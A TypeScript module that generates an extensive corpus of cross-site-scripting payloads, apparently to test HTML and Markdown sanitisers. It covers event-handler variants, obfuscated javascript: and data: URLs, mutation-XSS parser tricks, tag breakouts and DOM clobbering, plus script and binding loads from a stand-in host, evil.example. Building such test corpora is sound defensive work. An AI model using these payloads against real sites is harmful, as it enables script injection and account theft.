// Hostile markup, generated from the public classes of attacks on HTML sanitisers: every element with every
// event in every spelling, every way to hide a URL, raw-text and foreign-content tricks that change when
// HTML is parsed twice, broken syntax, and the same through Markdown.
const words = (list: string) => list.trim().split(/\s+/)

const elements = words(`
  img svg body video audio iframe object embed input details marquee form button select textarea a div p table td math style link base script source track
  picture meta isindex bgsound frameset keygen template slot dialog progress meter label fieldset figure canvas custom-element x h1 li summary use animate set
  image foreignObject blockquote code span`)
const events = words(`
  onerror onload onclick onmouseover onfocus onfocusin ontoggle onbeforetoggle onstart onanimationstart ontransitionend onpointerdown onpointerenter onwheel
  onbegin oncanplay onloadstart onsubmit oninput onchange oncopy onpageshow onhashchange onscrollend onbeforematch oncontentvisibilityautostatechange`)

// One attribute, as tolerant parsers still read it.
const attributeSpellings: ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}=${value}`,
  (name, value) => `/${name}=${value}//`,
  (name, value) => `\n${name.toUpperCase()}\t=\n'${value}'`,
  (name, value) => ` x="y"${name}="${value}"`,
  (name, value) => ` ${name}=&#97;${value.slice(1)}`,
  (name, value) => `\f${name}\f=\f"${value}"`,
]

function* eventHandlers(): Generator<string> {
  const helpers =
    ' src=x href=x data=x open tabindex=0 autofocus attributeName=x dur=1s style="animation:x 1s"'
  for (const [index, element] of elements.entries())
    for (const [other, event] of events.entries()) {
      const spelling = attributeSpellings[(index + other) % attributeSpellings.length]
      if (spelling !== undefined) yield `<${element}${spelling(event, 'alert(1)')}${helpers}>x</${element}>`
      yield `<${element}${helpers} ${event}=alert\`1\`>`
    }
  for (const spelling of attributeSpellings)
    for (const element of elements)
      yield `<${element}${helpers}${spelling('onerror', 'alert(1)')}${spelling('onload', 'alert(1)')}>`
}

const urls = [
  ...words(`javascript:alert(1) JaVaScRiPt:alert(1) javascript&colon;alert(1) javascript&#58;alert(1) javascript&#x3a;alert(1) javascript&#0000058alert(1)
    &#106;avascript:alert(1) &#x6A;avascript:alert(1) &#x6Aavascript:alert(1) java&Tab;script:alert(1) java&NewLine;script:alert(1) java&#9;script:alert(1)
    java&#10;script:alert(1) java&#13;script:alert(1) &#1;javascript:alert(1) &#x20;javascript:alert(1) &#0;javascript:alert(1) javascript:/*--></title>*/alert(1)
    javascript://x%0aalert(1) javascript:alert(1)// vbscript:msgbox(1) data:text/html,<script>alert(1)</script> data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
    data:image/svg+xml,<svg/onload=alert(1)> data:application/xhtml+xml,<x/> data:,alert(1) view-source:javascript:alert(1) feed:javascript:alert(1)
    jar:javascript:alert(1) //evil.example/x.js \\\\evil.example\\x.js /\\evil.example/x.js https:javascript:alert(1) javascript:javascript:alert(1)`),
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u001fjavascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'java\u0000script:alert(1)',
  'javascript:alert(1)\u0000',
  `${' '.repeat(500)}javascript:alert(1)`,
]
const carriers: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}' target=_blank>x</a>`,
  (url) => `<a href=${url.replaceAll(' ', '')}>x</a>`,
  (url) => `<a xlink:href="${url}">x</a>`,
  (url) => `<area href="${url}">`,
  (url) => `<form action="${url}"><input type=submit></form>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<input type=image formaction="${url}" src=x>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<a href='${url}'>x</a><script>alert(1)</script>"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x" dynsrc="${url}" lowsrc="${url}">`,
  (url) => `<video poster="${url}"><source src="${url}"></video>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}"/><text y=20>x</text></a></svg>`,
  (url) => `<svg><script href="${url}"/></svg>`,
  (url) => `<math><mi href="${url}">x</mi></math>`,
  (url) => `<math xlink:href="${url}">x</math>`,
  (url) => `<base href="${url}/"><a href="x">x</a>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<body background="${url}"><table background="${url}"><td background="${url}">x`,
  (url) => `<p style="background:url(${url})">x</p>`,
  (url) => `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q>`,
  (url) => `<details open><summary><a href="${url}">x</a></summary></details>`,
]

// Elements whose content one parser takes for text and another for markup.
const rawText = words(
  'style script textarea title xmp noscript noembed noframes iframe template select option plaintext listing desc annotation-xml mtext mglyph table svg math',
)
const outer = [
  '',
  '<svg>',
  '<math>',
  '<math><mtext>',
  '<svg><desc>',
  '<svg><foreignObject>',
  '<select>',
  '<table>',
  '<noscript>',
  '<form><math><mtext></form><form>',
  '<p>',
  '<template>',
  '<a>',
  '<ul><li>',
  '<details>',
]
const active = ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg onload=alert(1)>']

function* mutations(): Generator<string> {
  for (const around of outer)
    for (const element of rawText)
      for (const payload of active) {
        yield `${around}<${element}>${payload}</${element}>`
        yield `${around}<${element}><p title="</${element}>${payload}">`
        yield `${around}<${element}><!--</${element}>${payload}-->`
        yield `${around}<${element}><![CDATA[</${element}>${payload}]]>`
      }
  for (const payload of active) {
    yield `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${payload.replace('<', '&lt;').replace('>', '&gt;')}">`
    yield `<math><mtext><table><mglyph><style><math><table id="</style>${payload}">`
    yield `<form><math><mtext></form><form><mglyph><style></math>${payload}`
    yield `<svg></p><style><a id="</style>${payload}">`
    yield `<svg><style>&lt;/style&gt;${payload}`
    yield `<noscript><style></noscript>${payload}`
    yield `<a title="${payload.replaceAll('"', '&quot;')}"></a>`
    yield `<p id='"><${payload.slice(1)}'>`
    yield `<img alt="\`${payload}">`
    yield `&lt;${payload.slice(1)}`
    yield `<table><caption><svg><style><title></caption><img title="</title>${payload}">`
    yield `<option><style></option></select><b>${payload}</style></option>`
  }
}

const breakouts = [
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '</xmp>',
  '</iframe>',
  '</svg>',
  '</math>',
  '</template>',
  '</select>',
  '*/',
  '?>',
  '%>',
  '\\">',
  '&quot;>',
  '\u0000>',
  '</p',
  '<',
  '</',
  '<!',
  '<!--',
  '<?',
  '<![CDATA[',
  '<a ',
  '<a href="',
  "<p title='",
  '<!-->',
  '<!--->',
  '<!--x--!>',
  '<%',
  '<a/"\'',
]
const brokenTags = [
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\t>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script>alert(1)',
  '<script src=//evil.example/x.js',
  '<script\u0000>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '<script ~~~>alert(1)</script ~~~>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><script/href=data:,alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><image href=1 onerror=alert(1)>',
  '<img src="x"onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src=x:x onerror\n=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=`alert(1)`>',
  '<img \u00a0src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR="alert(1)">',
  '<image src=x onerror=alert(1)>',
  '<a href="x" href="javascript:alert(1)">x</a>',
  '<a HREF="javascript:alert(1)" href="x">x</a>',
  '<div style="width:expression(alert(1))">',
  '<div style="-moz-binding:url(//evil.example/x.xml#x)">',
  '<div style="behavior:url(//evil.example/x.htc)">',
  '<div style="position:fixed;inset:0;z-index:9"><a href="javascript:alert(1)">x</a></div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<x style="animation-name:y" onanimationstart=alert(1)></x><style>@keyframes y{}</style>',
  '<form id=x><input name=attributes><input name=innerHTML><input name=childNodes></form><button form=x formaction=javascript:alert(1)>x',
  '<form><input name=getAttributeNames><input name=tagName><input name=parentNode></form>',
  '<img name=getElementById><img name=querySelectorAll><a id=alert href=x><form name=body>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<iframe srcdoc=\'<svg onload="alert(1)">\'></iframe>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<meta http-equiv="refresh" content="0;javascript:alert(1)">',
  '<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
  '<html><body onload=alert(1)><frameset onload=alert(1)>',
  '<b/alt="1"onmouseover=alert(1) x>x</b>',
  '<details open ontoggle="alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p>x</button>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
]

function* broken(): Generator<string> {
  yield* brokenTags
  for (const before of breakouts)
    for (const payload of [...active, ...brokenTags]) yield `${before}${payload}`
  for (const tag of brokenTags) for (const around of outer) yield `${around}${tag}`
}

function* urlVectors(): Generator<string> {
  for (const carrier of carriers) for (const url of urls) yield carrier(url)
}

/** Every HTML vector, always in the same order. */
export function hostileHtml(): string[] {
  return [...new Set([...eventHandlers(), ...urlVectors(), ...mutations(), ...broken()])]
}

const links: ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `[x](${url} "title")`,
  (url) => `![x](${url})`,
  (url) => `[![x](x.png)](${url})`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `[r][]\n\n[r]: <${url}> 'title'`,
  (url) => `[r]\n\n> [r]: ${url}`,
  (url) => `<${url}>`,
  (url) => `**[x](${url})** _[y](${url})_`,
  (url) => `- [ ] [x](${url})\n  1. [y](${url})`,
  (url) => `| a |\n|---|\n| [x](${url}) |`,
  (url) => `> # [x](${url})`,
  (url) => `[^1]\n\n[^1]: [x](${url})`,
  (url) => `[x](\\${url})`,
  (url) => `[x]( ${url} )`,
]
const places: ((html: string) => string)[] = [
  (html) => html,
  (html) => `text ${html} text`,
  (html) => `- item\n\n  ${html}`,
  (html) => `> quote ${html}`,
  (html) => `| a | b |\n|---|---|\n| ${html} | x |`,
  (html) => `# ${html}\n\n**${html}**`,
  (html) => `\`\`\`\ncode\n\`\`\`\n${html}`,
  (html) => `\`unclosed ${html}`,
  (html) => `[${html}](https://a.b "${html}")`,
  (html) => `![${html}](https://a.b/x.png)`,
  (html) => `<details>\n\n${html}\n\n</details>`,
  (html) => `\\${html}`,
  (html) => `<!-- ${html}`,
  (html) => `~~~ ${html}\n${html}\n~~~\n${html}`,
  (html) => `[^1]\n\n[^1]: ${html}`,
]

/**
 * Every Markdown vector: hostile links in every form, and each raw HTML vector in one of the places that
 * Markdown has for it.
 */
export function hostileMarkdown(): string[] {
  const html = hostileHtml()
  const inPlaces = html.map((vector, index) => (places[index % places.length] ?? String)(vector))
  const everywhere = brokenTags.flatMap((tag) => places.map((place) => place(tag)))
  return [...new Set([...links.flatMap((link) => urls.map((url) => link(url))), ...everywhere, ...inPlaces])]
}

/** A part of the vectors that holds some of every class: each `step`th, beginning at `start`. */
export function sample(vectors: readonly string[], step: number, start = 0): string[] {
  return vectors.filter((_, index) => index % step === start % step)
}
